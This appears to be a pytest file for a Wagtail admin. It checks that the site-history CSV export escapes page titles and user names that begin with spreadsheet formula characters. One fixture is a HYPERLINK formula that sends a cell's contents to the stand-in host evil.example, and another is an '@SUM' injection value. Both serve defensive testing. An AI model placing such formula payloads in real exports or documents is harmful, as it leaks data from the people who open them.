"""Every CSV export of the admin is inert: Wagtail's own reports as well as the campaign's lists."""

import csv
import io

import pytest
from django.urls import reverse
from wagtail.log_actions import log

from tests.factories import HeroStoryPageFactory, UserFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A2,"Open the story")'


def test_the_site_history_export_escapes_a_page_title_written_as_a_formula(client, mission_hub):
    editor = UserFactory(first_name="@SUM(1+1)", last_name="Editor")
    story = HeroStoryPageFactory(parent=mission_hub, title=FORMULA, hero_name="Amina Yusuf")
    log(instance=story, action="wagtail.edit", user=editor)
    client.force_login(UserFactory(superuser=True))

    response = client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})

    content = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(content)))
    edit = next(row for row in rows if row["Action type"] == "Edit")
    assert edit["Name"] == f"'{FORMULA}"
    assert edit["User"].startswith("'@SUM(1+1)")
